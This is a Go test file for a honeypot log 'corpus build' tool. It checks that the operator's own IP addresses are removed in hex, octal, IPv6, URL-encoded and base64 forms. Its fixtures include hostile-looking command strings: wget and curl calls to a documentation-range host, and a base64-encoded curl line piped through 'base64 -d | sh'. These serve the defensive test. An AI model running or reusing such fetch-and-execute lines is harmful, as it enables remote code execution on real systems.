package main

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/base64"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// decnetDB makes a database as DECNET does, with one row for each command.
func decnetDB(t *testing.T, name string, rows [][3]string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	db, err := sql.Open("sqlite", (&url.URL{Scheme: "file", Path: path}).String())
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec(`CREATE TABLE logs (id INTEGER PRIMARY KEY, event_type TEXT, attacker_ip TEXT, raw_line TEXT)`); err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if _, err := db.Exec(`INSERT INTO logs (event_type, attacker_ip, raw_line) VALUES (?, ?, ?)`, r[0], r[1], r[2]); err != nil {
			t.Fatal(err)
		}
	}
	return path
}

// runCommand executes a command line in the test's own process.
func runCommand(t *testing.T, env map[string]string, args ...string) (code int, out, errs string) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	err := execute(context.Background(), testStreams(&stdout, &stderr, env), args)
	if err != nil {
		code = exitCode(err)
	}
	return code, stdout.String(), stderr.String()
}

// TestCorpusBuild plants the operator's addresses in every form into a database
// and two logs, and looks for them in what comes out.
func TestCorpusBuild(t *testing.T) {
	code64 := base64.StdEncoding.EncodeToString([]byte("curl http://203.0.113.9/x"))
	planted := []string{
		"wget http://203.0.113.9/a", "ping 0xcb007109", "ping 3405803785", "ping 031300070411", "ping 0xcb.0x0.0x71.0x9", "ping 0313.0.0161.011",
		"curl http://[2001:db8:7::9]/", "curl http://[2001:0db8:0007:0000:0000:0000:0000:0009]:80/", "ping ::ffff:203.0.113.9",
		"curl http://192.0.2.1/?u=%32%30%33%2e0%2e113%2e9", "echo " + code64 + " | base64 -d | sh",
	}
	rows := [][3]string{
		{"command", "203.0.113.9", "ssh command cmd=secret of the operator"},
		{"command", "2001:db8:7:1::1", "ssh command cmd=secret of the operator as well"},
		{"unknown_command", "198.51.100.1", "ssh unknown_command cmd=frobnicate --key cmd=x"},
		{"login", "198.51.100.1", "ssh login cmd=no command"},
		{"command", "198.51.100.1", "no command in here"},
	}
	for _, text := range planted {
		rows = append(rows, [3]string{"command", "198.51.100.1", "<14>1 host ssh command cmd=" + text})
	}
	dir := t.TempDir()
	var log, cowrie strings.Builder
	fmt.Fprintln(&log, `{"source_kind":"command","source_id":"1","attacker_uuid":"a","attacker_ip":"203.0.113.9","payload":{"command_text":"secret in the log"}}`)
	fmt.Fprintln(&log, `{"source_kind":"command","source_id":"2","attacker_ip":"::ffff:203.0.113.9","payload":{"command_text":"secret mapped"}}`)
	fmt.Fprintln(&log, `{"source_kind":"http_request","source_id":"3","attacker_ip":"198.51.100.2","payload":{"raw_url":"/?r=203.0.113.9","headers":{"X-F":["3405803785"]}}}`)
	for i, ip := range []string{"203.0.113.9", "198.51.100.3"} {
		fmt.Fprintf(&cowrie, `{"eventid":"cowrie.session.connect","src_ip":%q,"session":"s%d","sensor":"x","timestamp":"2026-11-22T00:00:0%dZ"}`+"\n", ip, i, i)
		fmt.Fprintf(&cowrie, `{"eventid":"cowrie.command.input","src_ip":%q,"session":"s%d","sensor":"x","timestamp":"2026-11-22T00:00:0%dZ","input":"uname from %s and 203.0.113.9"}`+"\n", ip, i, i+2, ip)
	}
	logFile, cowrieFile, out := filepath.Join(dir, "events.jsonl"), filepath.Join(dir, "cowrie.json"), filepath.Join(dir, "out.jsonl")
	for name, text := range map[string]string{logFile: log.String(), cowrieFile: cowrie.String()} {
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	env := map[string]string{"TTPCTL_CORPUS_EXCLUDE_IPS": "2001:db8:7::/48, 192.0.2.250", "DECNET_TTP_CORPUS_EXCLUDE_IPS": "203.0.113.9"}
	db := decnetDB(t, "odd name?.db", rows)
	build := func() []byte {
		t.Helper()
		if code, _, errs := runCommand(t, env, "corpus", "build", "-o", "jsonl="+out, db, logFile, cowrieFile); code != 0 {
			t.Fatalf("corpus build exits %d: %s", code, errs)
		} else if !strings.Contains(errs, "192.0.2.250") || strings.Contains(errs, "address=203.0.113.9") {
			t.Errorf("corpus build said %q, want a warning of the one address that nothing matched", errs)
		}
		data, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	data := build()
	manifest, err := os.ReadFile(out + ".manifest")
	if err != nil {
		t.Fatal(err)
	}
	for _, leak := range []string{"203.0.113.9", "3405803785", "cb007109", "0xcb.0x0", "31300070411", "0313.0", "2001:db8:7", "2001:0db8", "%32%30%33", code64, "secret"} {
		if bytes.Contains(data, []byte(leak)) {
			t.Errorf("the corpus holds %q:\n%s", leak, data)
		}
		if bytes.Contains(manifest, []byte(leak)) {
			t.Errorf("the manifest holds %q:\n%s", leak, manifest)
		}
	}
	for _, kept := range []string{"frobnicate --key cmd=x", "uname from 198.51.100.3"} {
		if !bytes.Contains(data, []byte(kept)) {
			t.Errorf("the corpus lacks %q:\n%s", kept, data)
		}
	}
	if bytes.Contains(data, []byte("no command")) {
		t.Errorf("the corpus holds a row of another event type:\n%s", data)
	}
	if info, err := os.Stat(out); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("the corpus has mode %v, %v, want 0600", info.Mode().Perm(), err)
	}
	if again := build(); !bytes.Equal(data, again) {
		t.Error("two builds differ")
	}
}

func TestCorpusBuildDatabases(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	text := filepath.Join(dir, "text.db")
	if err := os.WriteFile(text, []byte("this is no database, only a text of some length"), 0o600); err != nil {
		t.Fatal(err)
	}
	empty := filepath.Join(dir, "empty.sqlite")
	db, err := sql.Open("sqlite", empty)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(`CREATE TABLE other (x)`); err != nil {
		t.Fatal(err)
	}
	db.Close()
	locked := decnetDB(t, "locked.db", nil)
	lock, err := sql.Open("sqlite", locked)
	if err != nil {
		t.Fatal(err)
	}
	defer lock.Close()
	lock.SetMaxOpenConns(1)
	if _, err := lock.Exec(`BEGIN EXCLUSIVE`); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ name, path, want string }{
		{"no database", text, "not a SQLite database"},
		{"no table", empty, "no table logs"},
		{"locked", locked, "the database is locked"},
		{"missing", filepath.Join(dir, "missing.db"), "no such file"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			code, _, errs := runCommand(t, nil, "corpus", "build", "--exclude-ip", "203.0.113.9", "-o", "jsonl", tt.path)
			if code != 2 || !strings.Contains(errs, tt.want) {
				t.Errorf("corpus build exits %d: %q, want 2 and %q", code, errs, tt.want)
			}
		})
	}
}
